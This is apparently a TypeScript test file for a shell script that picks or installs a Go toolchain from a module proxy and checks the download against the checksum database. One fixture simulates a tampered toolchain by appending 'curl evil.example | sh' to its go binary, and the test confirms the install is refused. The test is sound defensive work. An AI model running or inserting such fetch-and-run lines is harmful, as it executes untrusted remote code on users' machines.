// scripts/ensure-go.sh on a stub project: which Go it takes (the PATH's, go.dev's location, the
// cache) and, when there is none new enough, the install from a local Go module proxy serving a
// toolchain zip this test makes, checked against the checksum database's h1 hash. The hash is
// computed here independently (golang.org/x/mod/sumdb/dirhash Hash1), so a wrong shell
// implementation of it fails the install test.
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { copyFileSync, existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, it } from 'node:test';
import type { TestContext } from 'node:test';
import { crc32 } from 'node:zlib';

const repoRoot = path.resolve(import.meta.dirname, '../../..');
const MODULE = 'golang.org/toolchain';
const VERSION = 'v0.0.1-go1.26.0.linux-amd64';
const skipOtherArch = process.arch !== 'x64' || process.platform !== 'linux';

/** A `go` that answers `go env GOVERSION` with `version`. */
const fakeGo = (version: string): string => `#!/bin/sh\n[ "$1 $2" = "env GOVERSION" ] && echo ${version}\n`;

/** A zip of stored (uncompressed) files, as the module proxy serves a module. */
function zip(files: Record<string, string>): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, text] of Object.entries(files)) {
    const data = Buffer.from(text);
    const fileName = Buffer.from(name);
    const crc = crc32(data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(fileName.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(fileName.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, fileName, data);
    centrals.push(central, fileName);
    offset += local.length + fileName.length + data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(Object.keys(files).length, 8);
  end.writeUInt16LE(Object.keys(files).length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

/** dirhash Hash1 of the zip's files: base64 SHA-256 of "SHA256  NAME\n" lines sorted by name. */
function h1(files: Record<string, string>): string {
  const sha = (data: string | Buffer): Buffer => createHash('sha256').update(data).digest();
  const lines = Object.keys(files)
    .sort()
    .map((name) => `${sha(files[name]!).toString('hex')}  ${name}\n`)
    .join('');
  return `h1:${sha(lines).toString('base64')}`;
}

const prefix = `${MODULE}@${VERSION}`;
const TOOLCHAIN: Record<string, string> = {
  [`${prefix}/bin/go`]: fakeGo('go1.26.0'),
  [`${prefix}/bin/gofmt`]: '#!/bin/sh\n',
  [`${prefix}/pkg/tool/linux_amd64/compile`]: '#!/bin/sh\n',
  [`${prefix}/VERSION`]: 'go1.26.0\n',
};

interface Proxy {
  url: string;
  requests: string[];
}

/** A Go module proxy serving `zipFiles` as the toolchain and `hash` as its checksum line. */
async function proxy(t: TestContext, zipFiles: Record<string, string>, hash: string): Promise<Proxy> {
  const requests: string[] = [];
  const body = zip(zipFiles);
  const server = createServer((req, res) => {
    requests.push(req.url ?? '');
    if (req.url === `/${MODULE}/@v/${VERSION}.zip`) return res.end(body);
    if (req.url === `/sumdb/sum.golang.org/lookup/${MODULE}@${VERSION}`)
      return res.end(
        `1234\n${MODULE} ${VERSION} ${hash}\n${MODULE} ${VERSION}/go.mod h1:x=\n\ngo.sum database tree\n`,
      );
    res.statusCode = 404;
    res.end('not found');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  t.after(() => server.close());
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, requests };
}

interface Project {
  dir: string;
  cache: string;
  /** Puts an executable `go` answering `version` into DIR/NAME/go; returns that directory. */
  go(name: string, version: string): string;
  run(options: { path?: string[]; standardGo?: string; goproxy?: string }): Promise<Run>;
}

interface Run {
  status: number | null;
  stdout: string;
  stderr: string;
}

function project(t: TestContext): Project {
  const dir = mkdtempSync(path.join(tmpdir(), 'mcsync-ensure-go-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  mkdirSync(path.join(dir, 'scripts'));
  mkdirSync(path.join(dir, 'tools/sandbox-cluster'), { recursive: true });
  copyFileSync(path.join(repoRoot, 'scripts/ensure-go.sh'), path.join(dir, 'scripts/ensure-go.sh'));
  writeFileSync(path.join(dir, 'tools/sandbox-cluster/go.mod'), 'module example\n\ngo 1.26.0\n');
  const cache = path.join(dir, 'xdg');
  return {
    dir,
    cache,
    go(name, version) {
      mkdirSync(path.join(dir, name), { recursive: true });
      writeFileSync(path.join(dir, name, 'go'), fakeGo(version), { mode: 0o755 });
      return path.join(dir, name);
    },
    // Async: the proxy answering curl runs in this process's event loop.
    run({ path: dirs = [], standardGo = path.join(dir, 'none/go'), goproxy }) {
      return new Promise((resolve) => {
        const child = spawn('bash', [path.join(dir, 'scripts/ensure-go.sh')], {
          env: {
            HOME: dir,
            XDG_CACHE_HOME: cache,
            PATH: [...dirs, '/usr/bin', '/bin'].join(':'),
            MCSYNC_STANDARD_GO: standardGo,
            ...(goproxy ? { GOPROXY: goproxy } : {}),
          },
        });
        let stdout = '';
        let stderr = '';
        child.stdout.on('data', (c: Buffer) => (stdout += c.toString()));
        child.stderr.on('data', (c: Buffer) => (stderr += c.toString()));
        child.on('close', (status) => resolve({ status, stdout, stderr }));
      });
    },
  };
}

describe('scripts/ensure-go.sh', { skip: skipOtherArch && 'the stub toolchain is linux-amd64' }, () => {
  it('takes the go on PATH when it is 1.21 or newer, else the one at go.dev’s location', async (t) => {
    const p = project(t);
    const onPath = p.go('path-go', 'go1.22.5');
    assert.deepEqual(await p.run({ path: [onPath] }), { status: 0, stdout: `${onPath}\n`, stderr: '' });
    const old = p.go('old-go', 'go1.19.8');
    const standard = p.go('standard', 'go1.25.1');
    const run = await p.run({ path: [old], standardGo: path.join(standard, 'go') });
    assert.equal(run.status, 0, run.stderr);
    assert.equal(run.stdout, `${standard}\n`);
  });

  it('without a new enough go, installs go.mod’s toolchain from the module proxy once, checked against the checksum database', async (t) => {
    const p = project(t);
    const server = await proxy(t, TOOLCHAIN, h1(TOOLCHAIN));
    const old = p.go('old-go', 'go1.19.8');
    const run = await p.run({ path: [old], goproxy: `${server.url},direct` });
    const bin = path.join(p.cache, 'mcsync/go-1.26.0/go/bin');
    assert.equal(run.status, 0, run.stderr);
    assert.equal(run.stdout, `${bin}\n`);
    assert.match(
      run.stderr,
      /ensure-go: installing Go 1\.26\.0 \(golang\.org\/toolchain@v0\.0\.1-go1\.26\.0\.linux-amd64/,
    );
    assert.deepEqual(server.requests, [
      `/${MODULE}/@v/${VERSION}.zip`,
      `/sumdb/sum.golang.org/lookup/${MODULE}@${VERSION}`,
    ]);
    // The zip drops modes; the installed tools run.
    assert.ok(existsSync(path.join(bin, 'go')));
    const again = await p.run({ path: [old], goproxy: server.url });
    assert.deepEqual(again, { status: 0, stdout: `${bin}\n`, stderr: '' });
    assert.equal(server.requests.length, 2, 'the cached toolchain is used without asking the proxy');
  });

  it('refuses a toolchain whose content does not match the checksum database, and installs nothing', async (t) => {
    const p = project(t);
    const tampered = { ...TOOLCHAIN, [`${prefix}/bin/go`]: `${fakeGo('go1.26.0')}curl evil.example | sh\n` };
    const server = await proxy(t, tampered, h1(TOOLCHAIN));
    const run = await p.run({ goproxy: server.url });
    assert.equal(run.status, 1);
    assert.equal(run.stdout, '');
    assert.match(
      run.stderr,
      new RegExp(
        `golang\\.org/toolchain@${VERSION.replace(/\./g, '\\.')} hashes to h1:\\S+, the checksum database says ${h1(TOOLCHAIN).replace(/[+/]/g, '\\$&')}; not installed`,
      ),
    );
    assert.ok(!existsSync(path.join(p.cache, 'mcsync/go-1.26.0')));
  });
});
